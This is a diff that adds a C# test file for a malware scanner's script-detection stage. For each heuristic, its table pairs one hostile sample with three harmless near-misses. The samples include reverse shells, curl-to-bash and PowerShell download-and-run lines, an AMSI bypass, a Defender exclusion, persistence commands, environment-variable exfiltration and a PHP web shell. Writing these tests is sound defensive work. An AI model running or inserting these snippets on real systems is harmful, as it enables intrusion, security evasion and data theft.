@@ -1,0 +1,109 @@
+using ScanHost.Formats.Containers;
+using ScanHost.Pipeline.Findings;
+using ScanHost.Pipeline.Tests.Doubles;
+using ScanHost.TestKit;
+using static ScanHost.Pipeline.Findings.ScriptHeuristics;
+
+namespace ScanHost.Pipeline.Tests.Stages.Scripts;
+
+public sealed class ScriptStageTests
+{
+    private static readonly string Command = InertFiles.EncodedCommand("Write-Output 'nothing happens here'");
+    private static readonly string Hex = string.Concat(Enumerable.Repeat("\\x41", 120));
+    private static readonly string Names = string.Concat(Enumerable.Range(0, 60).Select(at => $"var _0x{at + 0x1000:x4}=1;"));
+
+    private static readonly HeuristicCase[] Table =
+    [
+        Js(JsShell, "var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');",
+            "// new ActiveXObject('WScript.Shell').Run('calc')\nvar a = 1;", "var t = new ActiveXObject('Microsoft.XMLHTTP'); t.open('GET', u);", "worker.Run(job); var shell = app.shell;"),
+        Js(JsDrop, "var h = new ActiveXObject('MSXML2.XMLHTTP'); var s = new ActiveXObject('ADODB.Stream'); s.Write(h.responseBody); s.SaveToFile(p);",
+            "var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', u);", "var s = new ActiveXObject('ADODB.Stream'); s.SaveToFile(p);", "var h = new XMLHttpRequest(); stream.Write(h.response);"),
+        Js(JsEvalDecoded, "eval(atob('YWxlcnQoMSkgICAgICAg'));", "var x = atob('YWxlcnQoMSk='); show(x);", "eval('1+1');", "/* eval(atob(x)) */ f();"),
+        Js(JsObfuscator, Names + "(function(a){a['push'](a['shift']());x=parseInt(_0x1001)})", Names, "var a=_0x1234;x=parseInt(_0x1234);", "var color=0x1234ab;a['push'](1);"),
+        Js(JsPacked, "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|')))", "(function(p,a,c){return p})(1,2,3)", "function unpack(p,a,c,k,e,d){return p}", "var packed='p,a,c,k,e,d';"),
+        Js(JsHexEscapes, $"var a='{Hex}';", "var a='\\x41\\x42';", $"// {Hex}\nvar a = 1;", "var a='" + new string('x', 400) + "';"),
+        Js(JsTrojanLibrary, "/*! jQuery v3.4.1 */ var s = new ActiveXObject('WScript.Shell');",
+            "/*! jQuery v3.4.1 */ var s = new ActiveXObject('Microsoft.XMLHTTP');", "var s = new ActiveXObject('WScript.Shell'); // needs jQuery", "/*! jQuery v3.4.1 */ function f(){}"),
+        Js(JsCommentFill, Filler(400) + "new ActiveXObject('x');", Filler(400) + "function f(a){return a}", Filler(20) + "new ActiveXObject('x');",
+            Filler(400) + string.Concat(Enumerable.Range(0, 2000).Select(at => $"new ActiveXObject('{at}');"))),
+        Js(JsEnvExfil, "const c=require('child_process');const h=require('https');const r=https.request(o);r.write(JSON.stringify(process.env));c.execSync('id');",
+            "const c=require('child_process');c.execSync('node-gyp', {env: process.env});", "const r=https.request(o);r.write(JSON.stringify({a:1}));",
+            "if(process.env.NODE_ENV==='production'){https.get(u)} const c=require('child_process');"),
+        new(EncodedScript, new("a.jse", "#@~^DgAAAA==\\ko$K6,JC\u007FV^GJqAQAAA==^#~@"),
+            new("a.txt", "Encoded scripts begin with #@~^ and some letters, as this text says."), new("a.js", "var mark = '#@~^'; f(mark);"), new("a.txt", "#@~ is not the mark, ^ is missing here ==")),
+        Ps(PsEncoded, $"powershell.exe -enc {Command}", "powershell.exe -File build.ps1 -Encoding utf8", $"$x = '{Command}'", "powershell.exe -ExecutionPolicy RemoteSigned -File x.ps1"),
+        Ps(PsDownloadRun, "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "$x = (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\nWrite-Output $x",
+            "Invoke-WebRequest https://host.invalid/a.zip -OutFile a.zip", "# iex (iwr http://192.0.2.1/)\nGet-Date"),
+        Ps(PsReflect, "$b=[Convert]::FromBase64String($s);[System.Reflection.Assembly]::Load($b)", "$b=[Convert]::FromBase64String($s);Set-Content x $b", "[System.Reflection.Assembly]::LoadFrom('a.dll')",
+            "Add-Type -AssemblyName System.Drawing; [Convert]::ToBase64String($b)"),
+        Ps(PsAmsi, "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed')", "# amsiInitFailed is what they set\nGet-Date", "Get-Command *Automation*", "$amsi = 1; Write-Output 'amsi'"),
+        Ps(PsDefender, "Add-MpPreference -ExclusionPath C:\\", "Get-MpPreference | Format-List", "Set-MpPreference -ScanScheduleDay 1", "# Add-MpPreference -ExclusionPath C:\\\nGet-Date"),
+        Ps(PsFlags, "Start-Process cmd '/c powershell -nop -w hidden -File a.ps1'", "powershell -NoProfile -File a.ps1", "powershell -ExecutionPolicy Bypass -File a.ps1", "Start-Process notepad -WindowStyle Hidden; Write-Output nop"),
+        Ps(PsObfuscated, "& (\"{2}{0}{1}\" -f 'v','oke','In')", "'{0} of {1}' -f 1, 2", "$a = [char]65", "Write-Output \"a`tb\""),
+        Ps(PsPersist, "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b", "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "Get-ScheduledTask",
+            "Set-ItemProperty -Path HKCU:\\Software\\App -Name a -Value b"),
+        Vbs(VbsExecuteChr, "Execute(" + string.Join("&", Enumerable.Repeat("Chr(65)", 20)) + ")", "x = Chr(13) & Chr(10)\nMsgBox x", "Execute cmd", "MsgBox " + string.Join("&", Enumerable.Repeat("Chr(65)", 20))),
+        Vbs(VbsDrop, "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile p", "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nMsgBox h.responseText",
+            "Set s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile p", "' MSXML2.XMLHTTP SaveToFile\nMsgBox 1"),
+        Vbs(VbsWmi, "Set p = GetObject(\"winmgmts:Win32_Process\")\np.Create \"notepad\", Null, Null, i", "Set p = GetObject(\"winmgmts:\").ExecQuery(\"Select * from Win32_Process\")\nFor Each x In p\nNext",
+            "Set p = GetObject(\"winmgmts:Win32_Service\")\np.Create \"x\"", "' Win32_Process.Create(\"notepad\")\nMsgBox 1"),
+        Vbs(VbsShell, "CreateObject(\"WScript.Shell\").Run \"powershell -c x\"", "CreateObject(\"WScript.Shell\").Run \"notepad a.txt\"", "MsgBox \"powershell is needed\"", "Set s = CreateObject(\"WScript.Shell\")\nMsgBox s.CurrentDirectory"),
+        Bat(BatSubstring, "set a=abcdefghijkl\n" + string.Concat(Enumerable.Range(0, 12).Select(at => $"%a:~{at},1%")), "set d=%date:~0,4%%date:~5,2%", "echo %a:x=y%", "set a=abc\necho %a%"),
+        Bat(BatDownload, "certutil -urlcache -split -f http://192.0.2.1/a.exe %temp%\\a.exe\nstart %temp%\\a.exe", "curl -o a.zip https://host.invalid/a.zip\ntar xf a.zip", "certutil -urlcache * delete", "echo certutil -hashfile a.exe"),
+        Bat(BatDecode, "certutil -decode a.txt a.exe", "certutil -hashfile a.exe SHA256", "findstr /c:\"x\" log.txt > out.txt", "echo decode"),
+        Bat(BatRunVariable, "set a=%x:~0,3%\n%a%%b% /c y", "%JAVA_HOME%\\bin\\java -jar a.jar", "set a=%x:~0,3%\necho %a%", "%CC% -o a a.c"),
+        new(BatMark, new("a.bat", [0xFF, 0xFE, .. "\r\n@echo off\r\ncls\r\n"u8]), new("a.bat", [0xFF, 0xFE, .. System.Text.Encoding.Unicode.GetBytes("@echo off\r\ncls\r\n")]),
+            new("a.bat", [0xEF, 0xBB, 0xBF, .. "@echo off\r\ncls\r\n"u8]), new("a.bat", "@echo off\r\ncls\r\n")),
+        Bat(BatCarets, "p^o^w^e^r^s^h^e^l^l -c x^y^z", "echo a ^& echo b ^| more", "copy a b ^\n c d", "echo 2^10"),
+        Bat(BatEncoded, $"start powershell -w hidden -enc {Command}", "powershell -Command Get-Date", "powershell -File a.ps1 -e x", $"echo {Command}"),
+        Bat(BatScriptUrl, "mshta http://192.0.2.1/a.hta", "mshta a.hta", "regsvr32 /s a.dll", "msiexec /i a.msi /qn"),
+        Sh(ShCurlPipe, "curl -s http://192.0.2.1/a.sh | bash", "curl -s http://192.0.2.1/a.json | jq .", "# curl http://192.0.2.1/ | sh\ntrue", "curl -O http://192.0.2.1/a.sh"),
+        Sh(ShReverseShell, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "exec 3<>/dev/tcp/host/80; cat <&3", "# bash -i >& /dev/tcp/x/1\ntrue", "mkfifo pipe; cat pipe"),
+        Sh(ShPersist, "(crontab -l; echo '* * * * * /tmp/x') | crontab -", "crontab -l", "echo /usr/lib >> /etc/ld.so.conf", "cat /etc/crontab"),
+        Py(PyExecDecoded, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "import base64\nprint(base64.b64decode(x))", "exec(open('version.py').read())", "# exec(base64.b64decode(x))\nprint(1)"),
+        Py(PySetupNetwork, "from setuptools import setup\nimport requests\nrequests.post('http://192.0.2.1', data=x)\nsetup(name='a', version='1')", "from setuptools import setup\nsetup(name='a', install_requires=['requests'])",
+            "import requests\nrequests.get('http://192.0.2.1')", "from setuptools import setup\nimport subprocess\nsubprocess.check_output(['git', 'describe'])\nsetup(name='a')"),
+        Py(PyReverseShell, "import socket,os,pty\ns=socket.socket();s.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')", "import socket\ns=socket.socket()\ns.connect(a)",
+            "import os\nos.dup2(f.fileno(),1)", "import pty\npty.spawn('/bin/sh')"),
+        Php(PhpWebShell, "<?php system($_GET['c']); ?>", "<?php echo $_GET['c']; ?>", "<?php system('ls'); ?>", "<?php // eval($_POST['x'])\necho 1; ?>"),
+        Php(PhpObfuscated, "<?php eval(gzinflate(base64_decode('x'))); ?>", "<?php $x = base64_decode($y); ?>", "<?php eval('return 1;'); ?>", "<?php // eval(base64_decode($x))\necho 1; ?>"),
+    ];
+
+    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];
+
+    [Theory]
+    [MemberData(nameof(Rows))]
+    public Task A_script_gives_itself_away_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();
+
+    [Fact]
+    public void Every_heuristic_has_its_row() => Table.Select(row => row.Heuristic.Id).Should().BeEquivalentTo(All.Select(heuristic => heuristic.Id));
+
+    [Fact]
+    public async Task A_layer_raises_the_file_that_hides_it()
+    {
+        using var scans = new Scans { Readers = ContainerReaders.All };
+        var inner = InertFiles.EncodedCommand("iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')");
+
+        var outcome = await scans.ScanAsync(System.Text.Encoding.UTF8.GetBytes($"@echo off\r\nstart /min powershell -nop -w hidden -enc {inner}\r\n"), "run.bat");
+
+        outcome.Artifacts.Should().Contain(artifact => artifact.Relation == "decoded" && artifact.Name.EndsWith(".ps1", StringComparison.Ordinal));
+        outcome.Findings.Should().Contain(finding => finding.Id == PsDownloadRun.Id && finding.Artifact > 0);
+    }
+
+    private static string Filler(int lines) => string.Concat(Enumerable.Repeat("// the quick brown fox jumps over the lazy dog and runs away from it\n", lines));
+
+    private static HeuristicCase Js(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.js", positive, negatives);
+
+    private static HeuristicCase Ps(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.ps1", positive, negatives);
+
+    private static HeuristicCase Vbs(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.vbs", positive, negatives);
+
+    private static HeuristicCase Bat(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.bat", positive, negatives);
+
+    private static HeuristicCase Sh(Heuristic heuristic, string positive, params string[] negatives) =>
+        HeuristicCase.Of(heuristic, "a.sh", "#!/bin/sh\n" + positive, [.. negatives.Select(text => "#!/bin/sh\n" + text)]);
+
+    private static HeuristicCase Py(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "setup.py", positive, negatives);
+
+    private static HeuristicCase Php(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.php", positive, negatives);
+}
